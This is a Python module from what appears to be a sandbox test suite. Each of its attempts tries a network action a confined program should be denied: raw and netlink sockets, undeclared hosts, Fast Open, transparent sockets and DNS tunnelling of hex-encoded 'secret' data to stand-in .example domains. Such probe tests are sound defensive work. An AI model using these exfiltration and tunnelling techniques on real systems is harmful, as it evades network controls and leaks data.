# SPDX-License-Identifier: Apache-2.0

"""The network: sockets that are no application's, hosts that were not declared, names as a tunnel."""

from __future__ import annotations

import ctypes
import socket
import struct
from typing import Any

from table import ASKED, LIBC, Try, attempt, checked

MSG_FASTOPEN, AF_PACKET, AF_XDP, AF_VSOCK, AF_NETLINK, MPTCP = 0x20000000, 17, 44, 40, 16, 262


def sockets(family: int, kind: int, protocol: int) -> Try:
    """Make a socket of a kind that is no application's."""
    return lambda: socket.socket(family, kind, protocol)


attempt("raw-icmp")(sockets(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("raw-ip")(sockets(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
attempt("raw-tcp")(sockets(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))
attempt("raw-icmp-ipv6")(sockets(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
attempt("packets")(sockets(AF_PACKET, socket.SOCK_RAW, socket.htons(3)))
attempt("packets-of-xdp")(sockets(AF_XDP, socket.SOCK_RAW, 0))
attempt("vsock")(sockets(AF_VSOCK, socket.SOCK_STREAM, 0))
attempt("vsock-datagram")(sockets(AF_VSOCK, socket.SOCK_SEQPACKET, 0))
attempt("multipath")(sockets(socket.AF_INET, socket.SOCK_STREAM, MPTCP))
for _name, _protocol in {"routes": 0, "socket-table": 4, "firewall": 12, "audit": 9, "kernel-events": 15}.items():
    attempt(_name)(sockets(AF_NETLINK, socket.SOCK_RAW, _protocol))


def told(name: str, host: str, family: int = socket.AF_INET) -> Try:
    """Connect and say the attempt's name."""

    def action() -> None:
        with socket.socket(family, socket.SOCK_STREAM) as peer:
            peer.settimeout(5)
            peer.connect((host, ASKED["port"]))
            peer.sendall(name.encode())

    return action


def sent(name: str, host: str, family: int = socket.AF_INET) -> Try:
    """Send the attempt's name in a datagram."""
    return lambda: socket.socket(family, socket.SOCK_DGRAM).sendto(name.encode(), (host, ASKED["port"]))


for _name, _action, _host, _family in (
    ("tcp", told, "127.0.0.2", socket.AF_INET),
    ("tcp-ipv6", told, "::1", socket.AF_INET6),
    ("tcp-mapped", told, "::ffff:127.0.0.2", socket.AF_INET6),
    ("udp", sent, "127.0.0.2", socket.AF_INET),
    ("udp-ipv6", sent, "::1", socket.AF_INET6),
    ("udp-mapped", sent, "::ffff:127.0.0.2", socket.AF_INET6),
    ("declared", told, "127.0.0.3", socket.AF_INET),
):
    attempt(_name)(_action(_name, _host, _family))


def header(name: str, address: bytes, payload: ctypes.Array[ctypes.c_char]) -> tuple[bytes, Any]:
    """A ``struct mmsghdr`` with one address and one piece of memory, and what it points to."""
    place = ctypes.create_string_buffer(address, len(address))
    piece = ctypes.create_string_buffer(struct.pack("=QQ", ctypes.addressof(payload), len(name)))
    words = (ctypes.addressof(place), len(address), ctypes.addressof(piece), 1, 0, 0, 0, 0)
    return struct.pack("=QQQQQQQQ", *words), (place, piece, payload)


def many(name: str, kind: int, flags: int) -> Try:
    """sendmmsg(2) to an address."""

    def action() -> None:
        address = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", ASKED["port"], bytes((127, 0, 0, 2)))
        message, _kept = header(name, address, ctypes.create_string_buffer(name.encode()))
        with socket.socket(socket.AF_INET, kind) as peer:
            checked(LIBC.sendmmsg(peer.fileno(), ctypes.c_char_p(message), 1, flags))

    return action


attempt("many-datagrams")(many("many-datagrams", socket.SOCK_DGRAM, 0))
attempt("many-opening-fast")(many("many-opening-fast", socket.SOCK_STREAM, MSG_FASTOPEN))


@attempt("message")
def _() -> None:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"message"], [], 0, ("127.0.0.2", ASKED["port"]))


@attempt("opening-fast")
def _() -> None:
    with socket.socket() as peer:
        peer.sendto(b"opening-fast", MSG_FASTOPEN, ("127.0.0.2", ASKED["port"]))


@attempt("broadcast")
def _() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        peer.sendto(b"broadcast", ("127.255.255.255", ASKED["port"]))


@attempt("transparent")
def _() -> None:
    with socket.socket() as peer:
        peer.setsockopt(socket.SOL_IP, 19, 1)  # IP_TRANSPARENT: speak with an address that is not its own


@attempt("abstract-socket")
def _() -> None:
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect("\0" + ASKED["abstract"])
        peer.sendall(b"abstract-socket")


@attempt("socket-of-host")
def _() -> None:
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect(ASKED["socket"])
        peer.sendall(b"socket-of-host")


def query(name: str, host: str, port: int) -> bytes:
    """Ask a resolver for the address of a name (RFC 1035 §4), and return its answer."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.settimeout(5)
        peer.sendto(struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, 1, 1), (host, port))
        return peer.recv(512)


@attempt("tunnel-by-own-resolver")
def _() -> None:
    """Data in the labels of a name, to a resolver that the application chose."""
    query("736563726574.tunnel-by-own-resolver.example", "127.0.0.2", ASKED["resolver"])


@attempt("tunnel-by-resolver")
def _() -> None:
    """The same by the resolver that it was given."""
    socket.getaddrinfo("736563726574.tunnel.example", 443)


@attempt("tunnel-below-declared-name")
def _() -> None:
    socket.getaddrinfo("736563726574.declared.example", 443)


@attempt("declared-name")
def _() -> None:
    socket.getaddrinfo("declared.example", 443)
